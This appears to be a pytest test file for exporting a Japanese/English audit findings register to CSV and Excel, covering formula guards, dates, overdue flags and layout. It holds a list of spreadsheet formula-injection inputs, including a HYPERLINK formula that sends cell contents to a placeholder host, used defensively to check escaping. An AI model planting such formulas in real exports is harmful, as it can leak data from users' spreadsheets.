"""The findings register export: formula guard, Japanese text, dates, overdue, layout."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from findings.model import Finding, Grade, Status
from reports.findings_export import COLUMNS, findings_csv, findings_xlsx, header

TODAY = date(2026, 11, 25)
STATEMENT = "通話録音システムが個人情報取扱台帳に登録されていない。"
DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"詳細")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]
TEXT_FIELDS = (
    "assessment_title",
    "owner",
    "root_cause",
    "correction",
    "corrective_action",
    "verification_note",
    "raised_by",
)


def make(**changes: object) -> Finding:
    fields: dict[str, object] = {
        "id": "01a21385-57de-7e50-ae51-21b79addfc87",
        "ref": "F-2026-0001",
        "assessment_id": "01a21385-540e-78e1-935e-c568cf32100d",
        "assessment_title": "2026年度 自己点検（CSC）",
        "scope_unit": "CSC",
        "control_id": "ORG-03",
        "grade": Grade.MAJOR,
        "status": Status.OPEN,
        "statement": STATEMENT,
        "criterion_en": "ORG-03 Personal-information register (APPI guideline 10-3(3))",
        "criterion_ja": "ORG-03 個人情報取扱台帳の整備（通則編ガイドライン 10-3(3)）",
        "org_unit_code": "CSC",
        "owner": "s.okamoto",
        "due_date": date(2026, 12, 31),
        "root_cause": None,
        "correction": None,
        "corrective_action": None,
        "responded_by": None,
        "responded_at": None,
        "verification_note": None,
        "verified_by": None,
        "verified_at": None,
        "closed_by": None,
        "closed_at": None,
        "raised_by": "a.miyoshi",
        "raised_at": "2026-11-01 09:30",
        "raised_on": date(2026, 11, 1),
        "updated_by": "a.miyoshi",
        "updated_at": "2026-11-01 09:30:00",
        "version": 1,
    }
    fields.update(changes)
    return Finding(**fields)  # type: ignore[arg-type]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheet(data: bytes) -> Worksheet:
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    assert isinstance(ws, Worksheet)
    return ws


def col(name: str) -> int:
    """0-based index of an English heading."""
    return header("en").index(name)


# --- CSV -----------------------------------------------------------------------------------


def test_csv_has_bom_and_keeps_japanese_text() -> None:
    data = findings_csv([make()], TODAY)
    assert data.startswith(b"\xef\xbb\xbf")
    head, row = csv_rows(data)
    assert head == header("en")
    assert head[:4] == ["Ref", "Assessment", "Department", "Control"]
    assert row[col("Statement")] == STATEMENT
    assert row[col("Assessment")] == "2026年度 自己点検（CSC）"
    assert row[col("Grade")] == "Major nonconformity"
    assert row[col("Due date")] == "2026-12-31"
    assert row[col("Raised at")] == "2026-11-01 09:30"


def test_csv_in_japanese_uses_the_glossary_terms() -> None:
    head, row = csv_rows(findings_csv([make(grade=Grade.OFI)], TODAY, lang="ja"))
    assert head[0] == "所見番号"
    assert {"根本原因", "是正処置", "修正", "有効性の確認"} <= set(head)
    assert row[head.index("区分")] == "改善の機会"
    assert row[head.index("監査基準")].startswith("ORG-03 個人情報取扱台帳")


@pytest.mark.parametrize("value", DANGEROUS, ids=repr)
def test_csv_guards_statements_that_start_like_formulas(value: str) -> None:
    _, row = csv_rows(findings_csv([make(statement=value)], TODAY))
    assert row[col("Statement")] == "'" + value


@pytest.mark.parametrize("value", DANGEROUS, ids=repr)
def test_csv_guards_every_text_column(value: str) -> None:
    finding = make(**dict.fromkeys(TEXT_FIELDS, value))
    _, row = csv_rows(findings_csv([finding], TODAY))
    for name in (
        "Assessment",
        "Owner",
        "Root cause",
        "Correction",
        "Corrective action",
        "Verification note",
        "Raised by",
    ):
        assert row[col(name)] == "'" + value, name


def test_csv_leaves_harmless_text_alone() -> None:
    _, row = csv_rows(findings_csv([make(statement="a=b; 1+1 - @x")], TODAY))
    assert row[col("Statement")] == "a=b; 1+1 - @x"


def test_csv_statement_with_comma_quote_and_newline_round_trips() -> None:
    tricky = '台帳に "録音", "バックアップ" がない,\n担当者は「不明」と回答\r\n二行目'
    head, row = csv_rows(findings_csv([make(statement=tricky)], TODAY))
    assert len(row) == len(head)
    assert row[col("Statement")] == tricky


def test_overdue_and_age_follow_the_given_day() -> None:
    late = make(ref="F-2026-0002", due_date=date(2026, 11, 24))
    settled = make(ref="F-2026-0003", due_date=date(2026, 11, 24), status=Status.VERIFIED)
    due_today = make(ref="F-2026-0004", due_date=TODAY)
    _, *rows = csv_rows(findings_csv([late, settled, due_today], TODAY))
    assert [r[col("Overdue")] for r in rows] == ["yes", "no", "no"]
    assert {r[col("Age (days)")] for r in rows} == {"24"}
    _, *rows = csv_rows(findings_csv([late], date(2026, 11, 24)))
    assert [r[col("Overdue")] for r in rows] == ["no"]


def test_empty_register_is_just_the_header() -> None:
    assert csv_rows(findings_csv([], TODAY)) == [header("en")]
    ws = sheet(findings_xlsx([], TODAY))
    assert [c.value for c in ws[1]] == header("en")
    assert ws.max_row == 1


# --- Excel ---------------------------------------------------------------------------------


@pytest.mark.parametrize("value", DANGEROUS, ids=repr)
def test_xlsx_stores_formula_like_text_as_guarded_strings(value: str) -> None:
    finding = make(statement=value, **dict.fromkeys(TEXT_FIELDS, value))
    ws = sheet(findings_xlsx([finding], TODAY))
    guarded = [c for c in ws[2] if isinstance(c.value, str) and c.value.startswith("'")]
    # statement + the seven other text columns
    assert len(guarded) == 1 + len(TEXT_FIELDS)
    for cell in guarded:
        # XML reads a carriage return back as a line feed; the guard is what matters here.
        assert cell.value == "'" + value.replace("\r", "\n")
        assert cell.data_type == "s"


def test_xlsx_has_no_formula_anywhere() -> None:
    findings = [
        make(ref=f"F-2026-{i:04d}", statement=v, owner=v, root_cause=v)
        for i, v in enumerate(DANGEROUS, start=1)
    ]
    ws = sheet(findings_xlsx(findings, TODAY))
    cells = [c for row in ws.iter_rows() for c in row]
    assert len(cells) == (len(findings) + 1) * len(COLUMNS)
    for cell in cells:
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.coordinate


def test_xlsx_layout_dates_and_japanese() -> None:
    late = make(
        ref="F-2026-0002",
        due_date=date(2026, 11, 1),
        closed_at=None,
        statement="長い所見の文章。" * 30,
    )
    closed = make(
        ref="F-2026-0003",
        status=Status.CLOSED,
        closed_at="2026-11-20 17:05",
        due_date=date(2026, 11, 1),
    )
    ws = sheet(findings_xlsx([late, closed], TODAY, lang="ja"))
    assert ws.title == "所見"
    assert [c.value for c in ws[1]][:3] == ["所見番号", "自己点検", "担当部署"]
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:S{ws.max_row}"
    assert ws.max_row == 3

    due = ws.cell(row=2, column=col("Due date") + 1)
    assert due.number_format == "yyyy-mm-dd"
    assert due.value == datetime(2026, 11, 1)
    raised = ws.cell(row=2, column=col("Raised at") + 1)
    assert raised.number_format == "yyyy-mm-dd hh:mm"
    assert raised.value == datetime(2026, 11, 1, 9, 30)
    assert ws.cell(row=3, column=col("Closed at") + 1).value == datetime(2026, 11, 20, 17, 5)
    assert ws.cell(row=2, column=col("Closed at") + 1).value is None
    assert ws.cell(row=2, column=col("Age (days)") + 1).value == 24
    assert ws.cell(row=2, column=col("Statement") + 1).value == "長い所見の文章。" * 30
    assert ws.cell(row=2, column=col("Grade") + 1).value == "重大な不適合"
    assert ws.cell(row=2, column=col("Overdue") + 1).value == "はい"
    assert ws.cell(row=3, column=col("Overdue") + 1).value == "いいえ"

    # The overdue row is highlighted across; the settled one is not.
    assert {c.fill.fill_type for c in ws[2]} == {"solid"}
    assert {c.fill.fill_type for c in ws[3]} == {None}

    widths = {c.en: ws.column_dimensions[chr(ord("A") + i)].width for i, c in enumerate(COLUMNS)}
    assert 8 <= widths["Ref"] <= 20
    assert widths["Statement"] == 60, "long text wraps at a capped width"
    assert ws.cell(row=2, column=col("Statement") + 1).alignment.wrap_text
    assert all(w >= 8 for w in widths.values())


def test_xlsx_replaces_characters_excel_cannot_hold() -> None:
    ws = sheet(findings_xlsx([replace(make(), statement="録音\x1bログ\x00")], TODAY))
    assert ws.cell(row=2, column=col("Statement") + 1).value == "録音\ufffdログ\ufffd"


def test_xlsx_keeps_line_breaks_and_tabs() -> None:
    text = "一行目\n二行目\r\n三行目\t終"
    ws = sheet(findings_xlsx([make(statement=text)], TODAY))
    assert ws.cell(row=2, column=col("Statement") + 1).value == "一行目\n二行目\n三行目\t終"
